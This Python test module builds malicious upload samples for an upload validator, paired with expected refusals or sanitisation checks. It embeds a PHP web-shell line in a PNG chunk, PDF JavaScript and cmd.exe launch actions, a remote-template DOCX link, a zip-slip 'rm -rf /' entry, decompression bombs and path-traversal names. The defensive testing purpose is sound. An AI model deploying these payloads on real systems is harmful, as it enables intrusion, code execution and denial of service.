"""Malicious and malformed uploads, built by code, each with what must happen:
refused (with the refusal's code) or neutralised (with a check of the object
that was actually stored)."""

import functools
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from PIL import Image

from tests.factories.media import (
    image_bytes,
    odf_bytes,
    ooxml_bytes,
    pdf_bytes,
    zip_bytes,
)

MB = 1024 * 1024
SCRIPT = b"<script>alert(document.cookie)</script>"
HTML_PAGE = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"


@dataclass(frozen=True)
class Case:
    id: str
    kind: str  # "image" or "document"
    name: str
    build: Callable[[], bytes]
    refused: str = ""  # the refusal's code, or "" when neutralised
    stored_check: Callable[[str, bytes], None] | None = None


# --- builders ------------------------------------------------------------------


def png_chunk(kind: bytes, data: bytes) -> bytes:
    body = kind + data
    return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))


@functools.cache
def png_bomb() -> bytes:
    """A 1-bit 30000 x 30000 PNG of zeros: ~120 KB that decodes to 900 million
    pixels (a classic decompression bomb)."""
    width = height = 30_000
    row = b"\x00" + bytes((width + 7) // 8)
    compressor = zlib.compressobj(9)
    chunks = [compressor.compress(row * 1000) for _ in range(height // 1000)]
    chunks.append(compressor.flush())
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", b"".join(chunks))
        + png_chunk(b"IEND", b"")
    )


@functools.cache
def gif_frame_bomb() -> bytes:
    """11 frames of 2000 x 2000: small on disk, 44 million pixels to decode."""
    frames = [Image.new("P", (2000, 2000), color=index) for index in range(11)]
    for index, frame in enumerate(frames):
        frame.putpalette([index * 20, 0, 0] * 256)
    output = io.BytesIO()
    frames[0].save(output, "GIF", save_all=True, append_images=frames[1:])
    return output.getvalue()


def png_with_trailing_text_chunk() -> bytes:
    """A PNG whose last chunk before IEND carries PHP code."""
    data = image_bytes("PNG", size=(800, 600))
    end = data.rindex(b"IEND") - 4
    return (
        data[:end]
        + png_chunk(b"tEXt", b"c\x00<?php system($_GET['c']); ?>")
        + data[end:]
    )


def jpeg_with_html_appended() -> bytes:
    return image_bytes("JPEG") + HTML_PAGE


def jpeg_zip_polyglot() -> bytes:
    return image_bytes("JPEG") + zip_bytes([("payload.js", b"alert(1)")])


def jpeg_with_gps_and_comment() -> bytes:
    image = Image.linear_gradient("L").resize((300, 200)).convert("RGB")
    exif = Image.Exif()
    exif[0x8825] = {2: (38.0, 34.0, 0.0), 4: (68.0, 46.0, 0.0)}  # GPS: Dushanbe
    exif[0x010F] = "CameraMaker"
    output = io.BytesIO()
    image.save(output, "JPEG", exif=exif, comment=b"owner: secret-agent")
    return output.getvalue()


def gif_with_script_comment() -> bytes:
    image = Image.new("P", (200, 200), color=3)
    output = io.BytesIO()
    image.save(output, "GIF", comment=b"*/=alert(document.domain)//")
    return output.getvalue()


def truncated_jpeg() -> bytes:
    data = image_bytes("JPEG", size=(800, 600))
    return data[: len(data) // 2]


def pdf_with(dictionary: bytes) -> bytes:
    """A PDF whose catalog carries the given extra entries."""
    return pdf_bytes().replace(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Catalog /Pages 2 0 R " + dictionary + b" >>",
    )


def pdf_with_javascript_in_object_stream() -> bytes:
    """PDF 1.5 style: the action dictionary hidden in a compressed object stream."""
    hidden = b"5 0 << /S /JavaScript /JS (app.alert(1)) >>"
    stream = zlib.compress(hidden)
    object_stream = (
        b"6 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length "
        + str(len(stream)).encode()
        + b" >>\nstream\n"
        + stream
        + b"\nendstream\nendobj\n"
    )
    data = pdf_with(b"/OpenAction 5 0 R")
    return data.replace(b"xref\n", object_stream + b"xref\n", 1)


def docx_with_remote_template() -> bytes:
    rels = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org'
        b'/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
        b'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="http://203.0.113.7/template.dotm" TargetMode="External"/>'
        b"</Relationships>"
    )
    return ooxml_bytes("docx", extra=[("word/_rels/settings.xml.rels", rels)])


@functools.cache
def xlsx_zip_bomb() -> bytes:
    """An .xlsx whose sheet unpacks to 320 MB of zeros (a few hundred KB packed)."""
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        archive.writestr("xl/workbook.xml", b"<workbook/>")
        with archive.open("xl/worksheets/sheet1.xml", "w") as sheet:
            block = bytes(MB)
            for _ in range(320):
                sheet.write(block)
    return output.getvalue()


# --- checks of stored objects ---------------------------------------------------


def clean_image(*forbidden: bytes) -> Callable[[str, bytes], None]:
    """The stored object is a decodable image without the payload."""

    def check(key: str, stored: bytes) -> None:
        for payload in forbidden:
            assert payload not in stored, (key, payload)
        Image.open(io.BytesIO(stored)).load()

    return check


def jpeg_without_metadata(key: str, stored: bytes) -> None:
    image = Image.open(io.BytesIO(stored))
    assert not image.getexif().get_ifd(0x8825), "GPS position kept"
    assert b"CameraMaker" not in stored
    assert b"secret-agent" not in stored
    image.load()


def stored_as(expected_key_end: str) -> Callable[[str, bytes], None]:
    def check(key: str, stored: bytes) -> None:
        assert key.endswith(expected_key_end), key
        assert ".." not in key and "\\" not in key

    return check


# --- the corpus -------------------------------------------------------------------

CORPUS = [
    # images: wrong or dangerous formats
    Case(
        "svg-with-script",
        "image",
        "logo.svg",
        lambda: b"<svg onload='x'>" + SCRIPT + b"</svg>",
        "svg",
    ),
    Case(
        "svg-renamed-png",
        "image",
        "logo.png",
        lambda: b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>",
        "content_mismatch",
    ),
    Case(
        "html-renamed-jpg", "image", "photo.jpg", lambda: HTML_PAGE, "content_mismatch"
    ),
    Case(
        "png-renamed-jpg",
        "image",
        "photo.jpg",
        lambda: image_bytes("PNG"),
        "content_mismatch",
    ),
    Case(
        "exe-renamed-gif",
        "image",
        "anim.gif",
        lambda: b"MZ\x90\x00\x03" + bytes(2000),
        "content_mismatch",
    ),
    Case("empty-image", "image", "empty.png", lambda: b"", "empty"),
    Case(
        "oversized-image",
        "image",
        "huge.jpg",
        lambda: image_bytes("JPEG") + bytes(10 * MB),
        "file_too_large",
    ),
    Case(
        "png-decompression-bomb", "image", "bomb.png", png_bomb, "file_too_many_pixels"
    ),
    Case(
        "gif-frame-bomb", "image", "frames.gif", gif_frame_bomb, "file_too_many_pixels"
    ),
    Case("truncated-jpeg", "image", "broken.jpg", truncated_jpeg, "invalid_image"),
    Case(
        "executable-extension",
        "image",
        "setup.exe",
        lambda: image_bytes("JPEG"),
        "extension_not_allowed",
    ),
    Case(
        "rtl-override-name",
        "image",
        "photo\u202egpj.exe",
        lambda: image_bytes("JPEG"),
        "extension_not_allowed",
    ),
    # images: polyglots and metadata, neutralised by re-encoding
    Case(
        "jpeg-html-polyglot",
        "image",
        "photo.jpg",
        jpeg_with_html_appended,
        stored_check=clean_image(SCRIPT, b"<html"),
    ),
    Case(
        "jpeg-zip-polyglot",
        "image",
        "photo.jpg",
        jpeg_zip_polyglot,
        stored_check=clean_image(b"PK\x03\x04", b"alert(1)"),
    ),
    Case(
        "png-php-chunk",
        "image",
        "chart.png",
        png_with_trailing_text_chunk,
        stored_check=clean_image(b"<?php", b"system("),
    ),
    Case(
        "gif-javascript-comment",
        "image",
        "anim.gif",
        gif_with_script_comment,
        stored_check=clean_image(b"alert(document.domain)"),
    ),
    Case(
        "jpeg-gps-exif",
        "image",
        "photo.jpg",
        jpeg_with_gps_and_comment,
        stored_check=jpeg_without_metadata,
    ),
    Case(
        "image-path-traversal",
        "image",
        "../../../../etc/cron.d/Сурат.jpg",
        lambda: image_bytes("JPEG"),
        stored_check=stored_as("original_images/Сурат.jpg"),
    ),
    Case(
        "image-double-extension",
        "image",
        "shell.php.jpg",
        lambda: image_bytes("JPEG"),
        stored_check=stored_as("original_images/shell_php.jpg"),
    ),
    Case(
        "image-control-characters",
        "image",
        "a\x00b\x07c\u200b.png",
        lambda: image_bytes("PNG"),
        stored_check=stored_as("original_images/abc.png"),
    ),
    # documents
    Case("html-renamed-pdf", "document", "decree.pdf", lambda: HTML_PAGE, "markup"),
    Case(
        "html-before-pdf",
        "document",
        "decree.pdf",
        lambda: b"<html>" + SCRIPT + b"</html>\n" + pdf_bytes(),
        "markup",
    ),
    Case(
        "exe-renamed-pdf",
        "document",
        "decree.pdf",
        lambda: b"MZ\x90\x00" + bytes(3000),
        "content_mismatch",
    ),
    Case(
        "pdf-openaction-javascript",
        "document",
        "form.pdf",
        lambda: pdf_with(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
        "pdf_active_content",
    ),
    Case(
        "pdf-escaped-javascript",
        "document",
        "form.pdf",
        lambda: pdf_with(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
        "pdf_active_content",
    ),
    Case(
        "pdf-javascript-in-object-stream",
        "document",
        "form.pdf",
        pdf_with_javascript_in_object_stream,
        "pdf_active_content",
    ),
    Case(
        "pdf-launch-action",
        "document",
        "form.pdf",
        lambda: pdf_with(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
        "pdf_active_content",
    ),
    Case(
        "pdf-embedded-file",
        "document",
        "form.pdf",
        lambda: pdf_with(b"/Names << /EmbeddedFiles << /Names [(a.exe) 7 0 R] >> >>"),
        "pdf_active_content",
    ),
    Case(
        "pdf-encrypted",
        "document",
        "secret.pdf",
        lambda: pdf_bytes().replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt 9 0 R"),
        "pdf_encrypted",
    ),
    Case(
        "pdf-zip-polyglot",
        "document",
        "decree.pdf",
        lambda: pdf_bytes() + zip_bytes([("x.js", b"alert(1)")]),
        "pdf_damaged",
    ),
    Case(
        "zip-renamed-docx",
        "document",
        "letter.docx",
        lambda: zip_bytes([("readme.txt", b"hello")]),
        "content_mismatch",
    ),
    Case("pdf-renamed-docx", "document", "letter.docx", pdf_bytes, "content_mismatch"),
    Case(
        "docx-with-macros",
        "document",
        "letter.docx",
        lambda: ooxml_bytes(
            "docx", extra=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")]
        ),
        "macros",
    ),
    Case(
        "docx-remote-template",
        "document",
        "letter.docx",
        docx_with_remote_template,
        "external_content",
    ),
    Case(
        "docx-zip-slip",
        "document",
        "letter.docx",
        lambda: ooxml_bytes("docx", extra=[("../../evil.sh", b"rm -rf /")]),
        "archive_damaged",
    ),
    Case(
        "xlsx-zip-bomb", "document", "budget.xlsx", xlsx_zip_bomb, "archive_too_large"
    ),
    Case(
        "odt-with-macros",
        "document",
        "letter.odt",
        lambda: odf_bytes("odt", extra=[("Basic/Standard/Module1.xml", b"<script/>")]),
        "macros",
    ),
    Case(
        "rtf-embedded-object",
        "document",
        "letter.rtf",
        lambda: rb"{\rtf1{\object\objocx{\*\objdata 01050000020000000b000000}}}",
        "rtf_objects",
    ),
    Case(
        "svg-document",
        "document",
        "figure.svg",
        lambda: b"<svg>" + SCRIPT + b"</svg>",
        "svg",
    ),
    Case(
        "html-document",
        "document",
        "page.html",
        lambda: HTML_PAGE,
        "extension_not_allowed",
    ),
    Case(
        "no-extension",
        "document",
        "README",
        lambda: b"plain text",
        "extension_not_allowed",
    ),
    Case("empty-document", "document", "empty.pdf", lambda: b"", "empty"),
    Case(
        "oversized-document",
        "document",
        "scan.pdf",
        lambda: pdf_bytes() + bytes(50 * MB),
        "file_too_large",
    ),
    Case(
        "binary-renamed-txt",
        "document",
        "notes.txt",
        lambda: b"\x7fELF\x02\x01\x01" + bytes(500),
        "content_mismatch",
    ),
    Case("html-renamed-txt", "document", "notes.txt", lambda: HTML_PAGE, "markup"),
    Case(
        "csv-not-utf8",
        "document",
        "list.csv",
        lambda: "Ном;Шумора\nДушанбе;1\n".encode("cp1251"),
        "text_encoding",
    ),
    Case(
        "document-path-traversal",
        "document",
        "..\\..\\windows\\system32\\Қарор.pdf",
        pdf_bytes,
        stored_check=stored_as("/Қарор.pdf"),
    ),
]
